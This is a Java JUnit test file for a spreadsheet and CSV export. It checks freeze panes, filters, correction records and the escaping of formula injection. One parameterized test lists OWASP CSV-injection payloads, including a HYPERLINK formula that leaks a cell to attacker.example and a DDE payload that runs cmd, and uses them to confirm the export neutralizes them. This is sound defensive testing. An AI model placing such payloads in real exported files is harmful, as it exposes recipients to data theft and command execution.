package org.kornspur.api.export.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.kornspur.api.export.DemoEntries;
import org.kornspur.ingest.contract.Subject;
import org.kornspur.processors.dossier.Entry;

/** Read back by programs of other makes: Apache POI and Apache Commons CSV. */
class RecordsTest {
  private final List<Entry> entries = DemoEntries.of(Subject.lot("R25-S06"));
  private final SpreadsheetTable table = SpreadsheetTable.of(entries);

  @Test
  void theSpreadsheetCanBeSortedAndFiltered() throws Exception {
    try (XSSFWorkbook workbook = workbook(table)) {
      XSSFSheet sheet = workbook.getSheetAt(0);
      assertThat(sheet.getLastRowNum()).isEqualTo(entries.size());
      assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
      assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
      assertThat(sheet.getCTWorksheet().getAutoFilter().getRef())
          .isEqualTo(
              "A1:"
                  + new CellReference(entries.size(), table.header().size() - 1).formatAsString());
      Row first = sheet.getRow(1);
      assertThat(DateUtil.isCellDateFormatted(first.getCell(0))).isTrue();
      assertThat(first.getCell(0).getLocalDateTimeCellValue())
          .isEqualTo(
              LocalDateTime.ofInstant(entries.get(0).header().getHappenedAt(), ZoneOffset.UTC));
      int mass = table.header().indexOf("massKg (kg)");
      assertThat(
              List.of(sheet.getRow(1), sheet.getRow(2)).stream()
                  .map(row -> row.getCell(mass).getNumericCellValue()))
          .containsExactlyInAnyOrder(12_400.0, 1_240.0);
    }
  }

  @Test
  void bothValuesOfACorrectionAreThereAndTheWrongOneSaysWhy() throws Exception {
    List<CSVRecord> records = read(CsvWriter.write(table));
    assertThat(records).hasSize(entries.size());
    assertThat(records)
        .anyMatch(
            row ->
                row.get("counts").equals("false")
                    && row.get("massKg (kg)").equals("12400")
                    && !row.get("supersededBecause").isEmpty());
    assertThat(records)
        .anyMatch(row -> row.get("counts").equals("true") && row.get("massKg (kg)").equals("1240"));
  }

  /**
   * OWASP, "CSV Injection": beginnings that spreadsheets take for formulas; the first is the page's
   * own example of an attack by a link.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://attacker.example?leak=\"&A1,\"Error\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1"
      })
  void noTextBecomesAFormula(String attack) throws Exception {
    SpreadsheetTable hostile =
        new SpreadsheetTable(
            List.of("text"), List.of(List.of(new SpreadsheetTable.Cell.Text(attack))));
    assertThat(read(CsvWriter.write(hostile)).get(0).get(0)).isEqualTo("'" + attack);
    try (XSSFWorkbook workbook = workbook(hostile)) {
      Cell cell = workbook.getSheetAt(0).getRow(1).getCell(0);
      assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
    }
  }

  @Test
  void aNegativeNumberStaysANumber() throws Exception {
    SpreadsheetTable negative =
        new SpreadsheetTable(
            List.of("lon (deg)", "time"),
            List.of(
                List.of(
                    new SpreadsheetTable.Cell.Number(-3.25),
                    new SpreadsheetTable.Cell.Time(Instant.EPOCH))));
    assertThat(read(CsvWriter.write(negative)).get(0).get(0)).isEqualTo("-3.25");
  }

  @Test
  void theWholeDemoFitsIntoATable() throws Exception {
    SpreadsheetTable all =
        SpreadsheetTable.of(
            DemoEntries.all().stream()
                .filter(entry -> !entry.fact().getSchema().getName().contains("Declared"))
                .toList());
    assertThat(all.rows()).allMatch(row -> row.size() == all.header().size());
    assertThat(read(CsvWriter.write(all))).hasSize(all.rows().size());
  }

  private static XSSFWorkbook workbook(SpreadsheetTable table) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    XlsxWriter.write(table, bytes);
    return new XSSFWorkbook(new ByteArrayInputStream(bytes.toByteArray()));
  }

  private static List<CSVRecord> read(String csv) throws Exception {
    return CSVFormat.RFC4180
        .builder()
        .setHeader()
        .setSkipHeaderRecord(true)
        .get()
        .parse(new StringReader(csv))
        .getRecords();
  }
}
